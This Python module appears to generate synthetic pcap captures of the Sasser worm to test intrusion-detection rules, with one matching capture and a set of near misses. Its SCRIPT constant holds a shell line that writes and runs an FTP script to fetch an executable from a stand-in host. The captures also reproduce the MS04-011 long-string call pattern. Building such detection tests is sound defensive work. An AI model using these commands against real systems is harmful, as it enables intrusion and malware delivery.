"""Sasser: the call of MS04-011 with a long string and no code, its shell and its FTP."""

from __future__ import annotations

import uuid

from captures.dcerpc import bind, call, conversation, pipe, string
from captures.tape import OTHER, VICTIM, WORM, Capture, Tape

DSSETUP = uuid.UUID("3919286a-b10c-11d0-9ba8-00c04fd92ef5")
SAMR = uuid.UUID("12345778-1234-abcd-ef00-0123456789ac")
GET_INFORMATION, UPGRADE = 0, 9
LONG = "A" * 270
SCRIPT = b"echo off&echo open 10.20.0.66 %d>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp&ftp -s:cmd.ftp\n"


def say(tape: Tape, port: int, line: bytes) -> None:
    session = tape.session(WORM, VICTIM, port)
    session.send(line)
    session.close()


def fetch(tape: Tape, port: int, name: bytes) -> None:
    session = tape.session(VICTIM, WORM, port)
    session.reply(b"220 OK\r\n")
    session.send(b"USER anonymous\r\n")
    session.send(b"RETR " + name + b"\r\n")
    session.close()


def fires(tape: Tape) -> None:
    conversation(tape, WORM, VICTIM, DSSETUP, 0, UPGRADE, string(LONG))
    say(tape, 9996, SCRIPT % 5554)
    fetch(tape, 5554, b"74354_up.exe")


def near_miss(tape: Tape) -> None:
    conversation(tape, OTHER, VICTIM, DSSETUP, 0, GET_INFORMATION, b"\x01\0")
    conversation(tape, WORM, VICTIM, DSSETUP, 0, UPGRADE, string(LONG[:240]))
    conversation(tape, WORM, VICTIM, SAMR, 1, UPGRADE, string(LONG))
    session = tape.session(WORM, VICTIM, 4450)
    session.send(pipe(bind(DSSETUP, 0)))
    session.send(pipe(call(UPGRADE, string(LONG))))
    session.close()
    say(tape, 9996, SCRIPT % 5555)
    say(tape, 9996, SCRIPT.replace(b"_up.exe", b"_up.txt") % 5554)
    fetch(tape, 21, b"74354_up.exe")
    fetch(tape, 5554, b"back_up.exe")
    fetch(tape, 5554, b"backup.exe")


CAPTURES = (
    Capture(
        180,
        "sasser.pcap",
        "DsRolerUpgradeDownlevelServer with a long string, the FTP script in the shell, the FTP request",
        "an SMB1 session that binds dssetup over a pipe and calls opnum 9 with 270 letters, no code; two TCP sessions",
        {1000602: 1, 1000603: 1, 1000604: 1},
        fires,
    ),
    Capture(
        190,
        "sasser_near_miss.pcap",
        "the interface's everyday operation; a short string; another interface; another port than SMB; a script for "
        "port 5555, and for another file; FTP on port 21; other files",
        "as sasser.pcap, one condition off each",
        {},
        near_miss,
    ),
)
